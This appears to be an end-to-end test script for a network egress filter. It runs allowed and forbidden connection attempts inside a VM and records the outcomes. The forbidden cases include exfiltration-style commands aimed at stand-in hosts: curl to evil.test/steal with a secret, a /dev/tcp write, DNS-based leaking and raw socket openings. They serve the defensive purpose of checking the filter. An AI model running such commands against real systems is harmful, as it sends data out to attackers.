/**
 * One run of a command that tries what its policy names and what not, started in the guest as root: node test/vm/guest/run.ts. Writes what came of it
 * to $OUT/result.json. The world is a network namespace, from which all is judged.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Diagnosis } from '../../../src/guard/doctor.ts';
import { CLI, Lab, type RunResult, WORLD } from '../../e2e/lab.ts';

/** result.json. */
export interface GuestRun extends RunResult {
  /** `process.arch` of the guest. */
  arch: string;
  /** `uname -r`. */
  kernel: string;
  /** `egress-filter doctor --json`. */
  doctor: Diagnosis;
  /** What each attempt printed. */
  said: Record<string, string>;
}

/** 4 MiB through TLS threads and through splice(2): more than fits any buffer on the way. */
const BIG = 4 << 20;

const policy = `ok.test
http://ok.test/plain/*
other.test passthrough
ssh.test:22
${WORLD.ok}:9999/udp
`;

const python = (program: string): string => `/usr/bin/python3 -c '${program.trim().replaceAll('\n', '; ')}'`;
const datagram = (address: string): string =>
  python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(4)
s.sendto(b"data", ("${address}", 9999))
print(s.recv(9).decode())`);
const socketOf = (parameters: string): string =>
  python(`
import socket
socket.socket(${parameters.replaceAll(/AF_|SOCK_/g, 'socket.$&')})
print("open")`);

/** What a step might do, by what the assertions call it. */
const attempts = (ca: string): Record<string, string> => ({
  h2: 'curl -sS --max-time 40 --http2 https://ok.test/h2?secret=1',
  h1: 'curl -sS --max-time 40 --http1.1 https://ok.test/h1',
  plain: 'curl -sS --max-time 40 http://ok.test/plain/x',
  passthrough: `curl -sS --max-time 40 --cacert ${ca} https://other.test/`,
  'big, inspected': `curl -sS --max-time 40 https://ok.test/big?size=${BIG} | wc -c`,
  'big, passed through': `curl -sS --max-time 40 --cacert ${ca} https://other.test/big?size=${BIG} | wc -c`,
  'server first': python('import socket\ns = socket.create_connection(("ssh.test", 22))\nprint(s.recv(99).decode().strip())'),
  udp: datagram(WORLD.ok),
  'dns over tcp': 'dig +short +tcp ok.test',
  name: "curl -sS --max-time 40 'https://evil.test/steal?data=hunter2'",
  address: `curl -sSk --max-time 40 https://${WORLD.evil}/steal`,
  astray: `curl -sS --max-time 40 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray`,
  tcp: `timeout 10 bash -c 'echo data >/dev/tcp/${WORLD.evil}/9999'`,
  'udp, denied': datagram(WORLD.evil),
  dns: 'dig +time=4 +tries=1 +short hunter2.evil.test',
  'another server': `dig +time=4 +tries=1 +short @${WORLD.evil} ok.test`,
  ipv6: python('import socket\nsocket.create_connection(("fd77::1", 80), timeout=4)\nprint("open")'),
  raw: socketOf('AF_INET, SOCK_RAW, 1'),
  icmp: socketOf('AF_INET, SOCK_DGRAM, 1'),
  packet: socketOf('AF_PACKET, SOCK_RAW, 768'),
  vsock: socketOf('AF_VSOCK, SOCK_STREAM, 0'),
});

const lab = await Lab.start();
const told = spawnSync(CLI, ['doctor', '--json'], { encoding: 'utf8' });
const script = Object.entries(attempts(lab.caPath))
  .map(([name, command]) => `echo '== ${name}'\n${command} 2>&1`)
  .join('\n');
const result = await lab.run(['bash', '-c', script], { policy, timeoutMs: 400_000 });
const said = Object.fromEntries(
  result.stdout
    .split(/^== /m)
    .slice(1)
    .map((part): [string, string] => [part.slice(0, part.indexOf('\n')), part.slice(part.indexOf('\n') + 1)]),
);
const guest: GuestRun = {
  ...result,
  arch: process.arch,
  kernel: spawnSync('uname', ['-r'], { encoding: 'utf8' }).stdout.trim(),
  doctor: JSON.parse(told.stdout),
  said,
};
writeFileSync(join(process.env.OUT ?? '', 'result.json'), JSON.stringify(guest));
await lab.stop();
process.exit(0);
